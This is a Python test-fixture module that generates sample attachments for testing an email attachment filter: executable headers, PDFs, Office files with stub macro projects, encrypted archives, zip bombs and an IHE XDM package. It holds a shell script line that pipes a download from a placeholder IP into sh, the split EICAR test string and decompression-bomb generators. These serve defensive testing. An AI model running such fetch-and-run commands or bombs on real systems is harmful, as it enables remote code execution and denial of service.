"""Real files of every type the attachment rule decides on, built in memory for the tests
and the benchmark: programs, scripts, PDF, images, office documents with and without
macros, OLE2 compound files, encrypted archives, zip bombs, an IHE XDM package, and
messages carrying them.

The EICAR test file is joined from two halves at run time, so the repository never
holds it whole. The OLE2 writer (`compound_file`) lays out MS-CFB version 3 files whose
streams are all at least 4096 octets (no mini stream): enough for olefile and oletools
to read storages, streams and VBA projects.
"""

from __future__ import annotations

import io
import struct
import zipfile
from email.message import EmailMessage
from email.policy import SMTP

import pyzipper

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*").encode()


def pe() -> bytes:
    """A Windows program: DOS header, stub, PE signature and COFF header (i386)."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos += b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * 35
    dos += struct.pack("<I", 0x80)  # e_lfanew
    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + coff + b"\x00" * 512


def elf() -> bytes:
    """A 64-bit Linux executable header (x86-64, ET_EXEC)."""
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1,
                               64, 0, 0) + b"\x00" * 256


SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://198.51.100.1/x | sh\n"


def pdf(text: str = "Compte rendu") -> bytes:
    """A one-page PDF 1.4 with its cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
TIFF = b"II*\x00\x08\x00\x00\x00\x00\x00" + b"\x00" * 64
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
DICOM = b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00\x00\x00\x00\x00"
# DER: SEQUENCE { OID 1.2.840.113549.1.7.2 (signedData), [0] { ... } } (RFC 5652 3)
P7S = bytes.fromhex("3082010006092a864886f70d010702a081f2") + b"\x00" * 242
CDA = (b'<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
       b"<title>Compte rendu</title></ClinicalDocument>\n")
HL7_V2 = b"MSH|^~\\&|LAB|HOSP|DR|CAB|20240305||ORU^R01|1|P|2.5\rPID|1||123\r"
TEXT = b"Compte rendu de consultation, patient vu le 5 mars.\n"


def zip_of(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def aes_zip(entries: list[tuple[str, bytes]], password: bytes = b"secret") -> bytes:
    """A WinZip AES-256 encrypted archive (pyzipper), entries flagged encrypted (bit 0)."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password)
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def ratio_bomb(size: int = 20 * 1024 * 1024) -> bytes:
    """One entry of `size` zero octets, deflated about a thousand times."""
    return zip_of([("rapport.txt", b"\x00" * size)])


def nested_zip(levels: int, inner: bytes = TEXT) -> bytes:
    """A text file inside `levels` ZIP archives, each inside the next."""
    data, name = inner, "note.txt"
    for level in range(levels):
        data, name = zip_of([(name, data)]), f"level{level}.zip"
    return data


def xdm(documents: list[tuple[str, bytes]] | None = None, *, index: bool = True) -> bytes:
    """An IHE XDM package: INDEX.HTM, README.TXT, IHE_XDM/SUBSET01/METADATA.XML and documents."""
    docs = documents if documents is not None else [("DOC0001.XML", CDA), ("DOC0002.PDF", pdf())]
    entries = [("README.TXT", b"XDM media\r\n"),
               ("IHE_XDM/SUBSET01/METADATA.XML",
                b'<?xml version="1.0"?><SubmitObjectsRequest/>')]
    if index:
        entries.insert(0, ("INDEX.HTM", b"<html><body>Index</body></html>"))
    entries += [(f"IHE_XDM/SUBSET01/{name}", data) for name, data in docs]
    return zip_of(entries)


# --- OLE2 compound files (MS-CFB version 3, no mini stream) ----------------------------

_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF


def _dir_entry(name: str, kind: int, child: int, right: int, start: int, size: int,
               clsid: bytes = b"\x00" * 16) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", _NOSTREAM, right, child) + clsid + b"\x00" * 20
            + struct.pack("<IQ", start, size))


def compound_file(streams: dict[str, bytes], clsid: bytes = b"\x00" * 16) -> bytes:
    """An OLE2 file holding `streams` ("Storage/Stream" paths), each padded with zeros to
    4096 octets at least (below, a stream would live in the mini stream)."""
    tree: dict[str, list[str]] = {"": []}
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            node, parent = "/".join(parts[:depth]), "/".join(parts[:depth - 1])
            if node not in tree.setdefault(parent, []):
                tree[parent].append(node)
            if depth < len(parts):
                tree.setdefault(node, [])
    order = [""] + sorted(node for node in tree.keys() | set(streams) if node)
    ids = {node: n for n, node in enumerate(order)}
    data = {path: body.ljust(max(4096, -(-len(body) // 512) * 512), b"\x00")
            for path, body in streams.items()}
    dir_sectors = -(-len(order) // 4)
    next_sector, starts, fat = 1 + dir_sectors, {}, [_FATSECT]
    fat += [n + 2 for n in range(dir_sectors - 1)] + [_END]
    for path in sorted(data):
        count = len(data[path]) // 512
        starts[path] = next_sector
        fat += [next_sector + n + 1 for n in range(count - 1)] + [_END]
        next_sector += count
    assert len(fat) <= 128, "one FAT sector"
    entries = []
    for node in order:
        children = tree.get(node, [])
        child = ids[children[0]] if children else _NOSTREAM
        parent = node.rpartition("/")[0] if "/" in node else ""
        siblings = tree[parent] if node else []
        right = (ids[siblings[siblings.index(node) + 1]]
                 if node and siblings.index(node) + 1 < len(siblings) else _NOSTREAM)
        name = node.rpartition("/")[2] if node else "Root Entry"
        if node == "":
            entries.append(_dir_entry(name, 5, child, _NOSTREAM, _END, 0, clsid))
        elif node in streams:
            entries.append(_dir_entry(name, 2, _NOSTREAM, right, starts[node],
                                      len(data[node])))  # padded: read from the FAT
        else:
            entries.append(_dir_entry(name, 1, child, right, 0, 0))
    directory = b"".join(entries).ljust(dir_sectors * 512, b"\x00")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    fat_sector = b"".join(struct.pack("<I", v) for v in fat).ljust(512, b"\xff")
    return header + fat_sector + directory + b"".join(data[p] for p in sorted(data))


def vba_project() -> dict[str, bytes]:
    """The streams of a VBA project (MS-OVBA 2.2.1: PROJECT, VBA/dir, VBA/_VBA_PROJECT)."""
    return {"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n',
            "VBA/dir": b"\x01" + b"\x00" * 64, "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00"}


def word_97(macro: bool = False) -> bytes:
    """A Word 97-2003 document; with `macro`, a VBA project under Macros/."""
    streams = {"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 64, "1Table": b"\x00" * 64}
    if macro:
        streams.update({f"Macros/{path}": body for path, body in vba_project().items()})
    return compound_file(streams)


def packaged_object(name: str, payload: bytes) -> bytes:
    """An OLE object packaging a file (MS-OLEDS 2.3.6 OLENativeStream), as Word embeds it."""
    native = (struct.pack("<H", 2) + name.encode() + b"\x00" + b"C:\\" + name.encode() + b"\x00"
              + struct.pack("<II", 0x00030000, 0) + b"C:\\Temp\\" + name.encode() + b"\x00"
              + struct.pack("<I", len(payload)) + payload)
    return compound_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


def _content_types(main: str, extra: str = "") -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
            ).encode()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
         b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
         b"</Relationships>")
_DOCUMENT = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
             b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Compte rendu</w:t></w:r>'
             b"</w:p></w:body></w:document>")


def docx(*, main: str = DOCX_MAIN, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    """A Word 2007+ document; `extra` adds entries (a VBA project, an embedded object)."""
    entries = [("[Content_Types].xml", _content_types(main)), ("_rels/.rels", _RELS),
               ("word/document.xml", _DOCUMENT)] + (extra or [])
    return zip_of(entries)


def docm() -> bytes:
    """A macro-enabled Word document with its VBA project."""
    return docx(main=DOCM_MAIN, extra=[("word/vbaProject.bin", compound_file(vba_project()))])


def docx_with_macro(hidden: bool = False) -> bytes:
    """A `.docx` (ordinary main part) that carries a VBA project; `hidden` names it otherwise."""
    name = "word/media/image1.bin" if hidden else "word/vbaProject.bin"
    return docx(extra=[(name, compound_file(vba_project()))])


def odt(macro: bool = False) -> bytes:
    entries = [("mimetype", b"application/vnd.oasis.opendocument.text"),
               ("META-INF/manifest.xml", b"<manifest/>"), ("content.xml", b"<office/>")]
    if macro:
        entries.append(("Basic/Standard/Module1.xml", b"<script:module/>"))
    return zip_of(entries, zipfile.ZIP_STORED)


# --- messages ---------------------------------------------------------------------------


def message(sender: str, to: str, attachments: list[tuple[str, str, bytes]],
            subject: str = "Documents", body: str = "Veuillez trouver les documents.\n",
            inner: EmailMessage | None = None) -> EmailMessage:
    """A message with a text body and `(file name, type/subtype, octets)` attachments."""
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, to, subject
    msg["Message-ID"] = f"<{abs(hash((subject, len(attachments))))}@client.test>"
    msg.set_content(body)
    for name, kind, data in attachments:
        maintype, subtype = kind.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    if inner is not None:
        msg.add_attachment(inner)
    return msg


def wire(msg: EmailMessage) -> bytes:
    """The message as sent over SMTP (CRLF line ends)."""
    return msg.as_bytes(policy=SMTP)
